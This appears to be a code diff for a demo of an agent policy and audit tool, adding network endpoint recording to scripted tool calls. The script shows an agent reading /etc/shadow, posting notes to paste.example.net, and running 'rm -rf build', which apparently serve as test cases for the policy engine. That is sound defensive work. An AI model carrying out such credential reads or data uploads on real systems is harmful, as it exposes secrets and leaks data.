@@ -9,6 +9,8 @@ interface Step {
   readonly id: string;
   readonly tool: string;
   readonly path?: string;
+  /** The endpoint the call names, recorded as `decision_axes.net` (so `aegis show --host` finds it). */
+  readonly endpoint?: { readonly host: string; readonly port: number };
   readonly args: Record<string, string>;
   readonly runs: { readonly execution: ExecutionOutcome; readonly response?: string };
   /** A human's answer to this call's park, written as a `decision` line after it. */
@@ -26,7 +28,13 @@ const SCRIPT: readonly Step[] = [
     runs: { execution: { status: "success" }, response: "# notes\nship the release on friday\n" },
   },
   { id: "call-2", tool: "fs.read", path: "/etc/shadow", args: { path: "/etc/shadow" }, runs: { execution: { status: "success" } } },
-  { id: "call-3", tool: "net.post", args: { url: "https://paste.example.net/new", body: "notes" }, runs: { execution: { status: "success" } } },
+  {
+    id: "call-3",
+    tool: "net.post",
+    endpoint: { host: "paste.example.net", port: 443 },
+    args: { url: "https://paste.example.net/new", body: "notes" },
+    runs: { execution: { status: "success" } },
+  },
   { id: "call-4", tool: "shell.exec", args: { command: "rm -rf build" }, runs: { execution: { status: "success" } }, approve: true },
   {
     id: "call-5",
@@ -70,6 +78,7 @@ export async function runScript(writer: ChainWriter): Promise<DemoCall[]> {
       role: "agent",
       session: "demo",
       ...(step.path === undefined ? {} : { fs: { path_raw: step.path, path_canonical: step.path } }),
+      ...(step.endpoint === undefined ? {} : { net: step.endpoint }),
       ...(approvalRef === undefined ? {} : { approval_ref: approvalRef }),
     };
     const decision = decide(DEMO_POLICY, { tool_id: step.tool, axes });
